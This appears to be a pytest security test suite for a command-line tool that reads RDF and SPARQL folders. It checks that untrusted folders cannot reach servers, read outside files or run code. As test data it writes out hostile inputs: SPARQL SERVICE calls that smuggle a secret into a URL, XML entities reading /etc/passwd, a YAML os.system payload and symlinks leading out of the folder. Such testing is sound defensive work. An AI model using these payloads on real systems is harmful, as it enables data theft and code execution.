"""A folder that somebody else has made: no command asks a server, reads outside of it or runs it.

Each command reads a folder that tries to call a server on this machine, which must hear nothing.
"""

from __future__ import annotations

import os
import shutil
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest

import dealgraph
from dealgraph.base.errors import DealgraphError
from dealgraph.cli import run
from dealgraph.graph.config import SAFE

SECRET = "we buy Halden on Friday"
PREFIXES = """@prefix dg: <https://w3id.org/dealgraph/ns#> .
@prefix party: <https://w3id.org/dealgraph/party/> .
@prefix owl: <http://www.w3.org/2002/07/owl#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix sh: <http://www.w3.org/ns/shacl#> .
"""
RECORD = f'{PREFIXES}party:secretco a dg:Organisation ; rdfs:label "{SECRET}" .\n'


class Listener:
    """A server that notes whether anybody has come, and sends everybody away."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0), backlog=50)
        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}/"
        self.came = 0
        threading.Thread(target=self.run, daemon=True).start()

    def run(self) -> None:
        with suppress(OSError):  # closed at the end of the test
            while True:
                client, _ = self.socket.accept()
                self.came += 1
                client.close()

    def heard(self) -> bool:
        """Whether anybody has come, besides this call itself."""
        before = self.came
        with socket.create_connection(self.socket.getsockname(), timeout=60) as own:
            own.recv(1)  # all who came earlier have been noted by now
        return self.came > before + 1 or before > 0


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    with suppress(OSError):
        found.socket.shutdown(socket.SHUT_RDWR)
    found.socket.close()


def test_the_listener_hears_who_comes(listener: Listener) -> None:
    socket.create_connection(listener.socket.getsockname()).close()
    assert listener.heard()


#: Ways of asking another server, in the pattern of a query; URL stands for its address.
SERVICES = {
    "plainly": "SERVICE <URL> { ?a ?b ?c }",
    "silently": "SERVICE SILENT <URL> { ?a ?b ?c }",
    "in small letters": "service<URL>{?a ?b ?c}",
    "with an escape": "SERV\\u0049CE <URL> { ?a ?b ?c }",
    "after a dot in a name": "BIND(1 AS ?z) ?s a x:a.b.SERVICE<URL>{ ?a ?b ?c }",
    "after a number": "?s ?q 1SERVICE<URL>{ ?a ?b ?c }",
    "at an address that it makes": (
        'BIND(IRI(CONCAT("URL?", ENCODE_FOR_URI(?label))) AS ?u) '
        "FILTER NOT EXISTS { SERVICE SILENT ?u { ?a ?b ?c } }"
    ),
    "behind a text that ends otherwise": "FILTER('''\\'''' != \"\") SERVICE <URL> { ?a ?b ?c }",
}
#: Other files that lead out, by their place in the folder.
LEADING_OUT = {
    "rules/from.rq": (
        "# title: a\n# why: b\nCONSTRUCT { ?s ?p ?o } FROM <URLx.ttl> WHERE { ?s ?p ?o }"
    ),
    "rules/named.rq": (
        "# title: a\n# why: b\n"
        "CONSTRUCT { ?s ?p ?o } FROM NAMED <URLx.ttl> WHERE { GRAPH ?g { ?s ?p ?o } }"
    ),
    "imports.ttl": (
        f"{PREFIXES}<urn:m> a owl:Ontology ; owl:imports <URLm.ttl> ; owl:versionIRI <URLv> ."
    ),
    "base.ttl": "@base <URL> . <a> <b> <c> .",
    "shapes-graph.ttl": f"{PREFIXES}<urn:data> sh:shapesGraph <URLshapes.ttl> ; owl:sameAs <URL> .",
    "shapes/script.ttl": (
        f"{PREFIXES}<urn:s> a sh:NodeShape ; sh:targetClass dg:Organisation ; owl:imports <URLs> ; "
        'sh:js [ sh:jsFunctionName "f" ; sh:jsLibrary [ sh:jsLibraryURL "URLf.js" ] ] .'
    ),
    "context.jsonld": '{"@context": "URLcontext.jsonld", "@id": "urn:a"}',
    "entity.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "URLentity">]><a>&b;</a>',
    "entity.ttl.rdf": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "questions/outside.rq": (
        "# title: a\n# question: b\n# why: c\n"
        "SELECT ?label FROM <URLx.ttl> { ?s rdfs:label ?label }"
    ),
    "tables/outside.rq": "SELECT ?label FROM <URLx.ttl> { ?s rdfs:label ?label }",
}
#: Every command that reads folders. EVIL is the folder, MINI a small record, OUT a new folder.
COMMANDS = [
    "ask --data EVIL",
    "ask outside --data EVIL --only MINI",
    "ask members --data EVIL --only MINI",
    "query --only MINI --data EVIL SELECT*{?s|?p|?o}",
    "query --only EVIL --no-inference DESCRIBE|party:secretco",
    "show secretco --only MINI --data EVIL",
    "stats --only MINI --data EVIL",
    "stats --only MINI --data EVIL --store OUT/store",
    "check --only MINI --data EVIL",
    "check --only MINI EVIL",
    "fmt --check EVIL",
    "draw --only MINI --data EVIL -o OUT/page.html",
    "docs --only MINI --data EVIL -o OUT/docs",
    *(f"export --only MINI --data EVIL OUT/all.{x}" for x in ("ttl", "trig", "jsonld", "graphml")),
    "export --only MINI --data EVIL OUT/tables/",
    "export --only MINI --data EVIL --profile odrl OUT/odrl.jsonld",
    "diff MINI EVIL",
    "diff EVIL MINI --format json",
    "new party --only MINI --data EVIL --from EVIL/entity.xml",
    "new party --only MINI --data EVIL --from EVIL/new.yaml --into OUT",
]
FEW = ("ask outside --only MINI --data EVIL", "show secretco --only MINI --data EVIL")


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    """A folder in which somebody's record and a new one stand."""
    folder = tmp_path / "evil"
    write(folder / "secretco.ttl", RECORD)
    write(folder / "new.yaml", "- label: Nobody\n  kind: !!python/object/apply:os.system [id]\n")
    (tmp_path / "out").mkdir()
    return folder


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


@pytest.fixture
def command(evil: Path, mini: Path, capfd: pytest.CaptureFixture[str]) -> Callable[[str], str]:
    """Run a command; return all that it says, if it ended as commands do."""
    places = {"EVIL": str(evil), "MINI": str(mini), "OUT": str(evil.parent / "out")}

    def call(line: str) -> str:
        words = []
        for word in line.split(" "):
            head, slash, rest = word.partition("/")
            words.append((places.get(head, head) + slash + rest).replace("|", " "))
        code = run(words)
        said = capfd.readouterr()
        assert code in (0, 1, 2), line
        assert "Traceback" not in said.err
        return said.out + said.err

    return call


@pytest.mark.parametrize("way", SERVICES)
def test_no_query_of_a_folder_asks_a_server(way, evil, command, listener):
    pattern = SERVICES[way].replace("URL", listener.url)
    body = f"WHERE {{ ?s rdfs:label ?label . {pattern} }}"
    write(
        evil / "rules/r.rq",
        f"# title: a\n# why: b\nPREFIX x: <urn:x>\nCONSTRUCT {{ ?s dg:note ?label }} {body}",
    )
    asked = f"PREFIX x: <urn:x>\nSELECT ?label (?s AS ?entity) {body}"
    head = "# title: a\n# question: b\n# why: c\n# problem: d.\n# fix: e.\n# severity: error\n"
    for role in ("questions", "checks", "tables"):
        write(evil / role / "outside.rq", head + asked)
    select = asked.replace("\\", "\\\\").replace('"', '\\"').replace("\n", " ")
    write(
        evil / "shapes/s.ttl",
        f"{PREFIXES}<urn:s> a sh:NodeShape ; sh:targetClass dg:Organisation ; "
        f'sh:sparql [ sh:message "m" ; sh:select "{select}" ] .',
    )
    for line in COMMANDS if way == "plainly" else FEW:
        command(line)
    said = command("query --only MINI --data EVIL ASK{?s|?p|?o}")
    assert "A rule is not valid SPARQL [DG601]" in said
    found = command("check --only MINI EVIL")
    assert all(f"{role}/" in found for role in ("rules", "questions", "checks", "tables", "shapes"))
    with pytest.raises(DealgraphError):
        dealgraph.load(evil)
    assert not listener.heard()


def test_nothing_else_in_a_folder_leads_out(evil, command, listener):
    for name, text in LEADING_OUT.items():
        write(evil / name, text.replace("URL", listener.url))
    for line in COMMANDS:
        assert "root:" not in command(line), line
    graph = dealgraph.load(evil)
    assert SECRET not in {
        str(row.label)
        for row in graph.query("SELECT ?label FROM <file:///etc/passwd> { ?s rdfs:label ?label }")
    }
    assert not listener.heard()


def test_a_load_is_an_update_and_refused(evil, command, listener):
    write(evil / "rules/r.rq", f"LOAD <{listener.url}>")
    assert "this is an update" in command("stats --only MINI --data EVIL")
    write(
        evil / "rules/r.rq", "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o } ; LOAD <file:///etc/passwd>"
    )
    assert "A rule is not valid SPARQL" in command("stats --only MINI --data EVIL")
    assert not listener.heard()


links = pytest.mark.skipif(sys.platform == "win32", reason="links need a privilege there")


@links
@pytest.mark.parametrize(
    "target", ["/etc/passwd", "/dev/zero", "../secret.ttl", "../../../../etc/hostname"]
)
def test_a_link_out_of_a_folder_is_refused_by_every_command(target, evil, command):
    write(evil.parent / "secret.ttl", "SECRET LINE\n")
    (evil / "x.ttl").symlink_to(target)
    for line in COMMANDS:
        said = command(line)
        assert "A link leads out of its folder [DG101]" in said or line.startswith(
            "new party --only MINI --data EVIL --from EVIL/entity"
        ), line
        assert "root:" not in said
        assert "SECRET" not in said


@links
def test_a_link_within_its_folder_is_a_file_like_others(tmp_path, mini):
    """As in a volume of Kubernetes, whose files are links to those of the present version."""
    version = tmp_path / "..2026_11_30"
    shutil.copytree(mini, version)
    (tmp_path / "..data").symlink_to(version.name, target_is_directory=True)
    for path in version.rglob("*.ttl"):
        (tmp_path / path.name).symlink_to(Path("..data") / path.relative_to(version))
    assert len(dealgraph.load(only=[tmp_path])) == len(dealgraph.load(only=[mini]))
    assert run(["stats", "--only", str(tmp_path / "..data")]) == 0  # a link that somebody names


# The configuration that lies in a folder


@pytest.fixture
def project(evil: Path, monkeypatch: pytest.MonkeyPatch, tmp_path_factory) -> Path:
    """A working folder whose configuration adds somebody's folder."""
    folder = evil.parent
    write(folder / "pyproject.toml", '[tool.dealgraph]\npaths = ["evil"]\n')
    monkeypatch.chdir(folder)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path_factory.mktemp("told")))
    return folder


def test_what_a_configuration_adds_is_said_once(project, monkeypatch, capfd):
    assert run(["show", "secretco"]) == 0
    note = capfd.readouterr().err
    assert note.startswith(f"Note: {project / 'pyproject.toml'}, [tool.dealgraph] paths, adds")
    assert note.count("\n") == 1
    assert run(["show", "secretco"]) == 0
    assert capfd.readouterr().err == ""
    write(project / "other" / "o.ttl", RECORD.replace("secretco", "other"))
    write(project / "pyproject.toml", '[tool.dealgraph]\npaths = ["evil", "other"]\n')
    assert run(["show", "secretco"]) == 0
    assert str(project / "other") in capfd.readouterr().err
    monkeypatch.setenv(SAFE, str(project))
    monkeypatch.setenv("DEALGRAPH_CACHE", "off")
    assert run(["show", "secretco"]) == 0
    assert capfd.readouterr().err == ""


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root gives files away"
)
def test_the_configuration_of_another_user_is_refused(project, monkeypatch, capfd, mini):
    os.chown(project / "pyproject.toml", 12345, 12345)
    assert run(["show", "secretco"]) == 2
    assert "The configuration is that of another user [DG103]" in capfd.readouterr().err
    with pytest.raises(DealgraphError, match="another user"):
        dealgraph.load()
    assert run(["stats", "--only", str(mini)]) == 0
    for safe in (str(project), f"/nowhere{os.pathsep}{project}", "*"):
        monkeypatch.setenv(SAFE, safe)
        assert run(["show", "secretco"]) == 0
    monkeypatch.setenv(SAFE, str(project.parent))
    assert run(["show", "secretco"]) == 2
    monkeypatch.setenv("SUDO_UID", "12345")
    assert run(["show", "secretco"]) == 0
